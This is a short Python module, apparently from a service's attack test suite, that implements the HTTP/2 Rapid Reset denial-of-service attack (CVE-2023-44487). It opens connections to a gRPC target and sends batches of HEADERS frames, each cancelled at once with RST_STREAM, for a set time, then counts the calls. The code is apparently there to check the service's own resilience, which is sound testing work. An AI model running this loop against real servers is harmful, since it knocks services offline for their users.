"""Calls that are taken back as soon as they are sent (CVE-2023-44487)."""

from __future__ import annotations

import contextlib
import time

from tests.attack.target import CLAIM, Setting, Target
from tests.attack.wire import END_HEADERS, HEADERS, RST_STREAM, Connection, call_headers, frame

SETTING = Setting(tokens=False)
SECONDS = 10.0
#: What half of the normal client's claims may take: reading the frames takes gRPC a whole core, and there are two.
ALLOWED_SECONDS = 1.0


def attack(target: Target, share: float) -> str:
    seconds, calls = max(3.0, SECONDS * share), 0
    until, block = time.monotonic() + seconds, call_headers(CLAIM)
    while time.monotonic() < until:
        with contextlib.suppress(OSError), Connection(target.endpoint) as connection:
            for first in range(0, 10_000, 100):
                streams = [2 * (first + number) + 1 for number in range(100)]
                connection.send(
                    b"".join(
                        frame(HEADERS, END_HEADERS, each, block) + frame(RST_STREAM, 0, each, b"\0\0\0\x08")
                        for each in streams
                    )
                )
                calls += 100
                for _ in connection.frames(0.0):
                    pass
                if time.monotonic() > until:
                    break
    return f"{calls} calls taken back in {seconds:g} s"
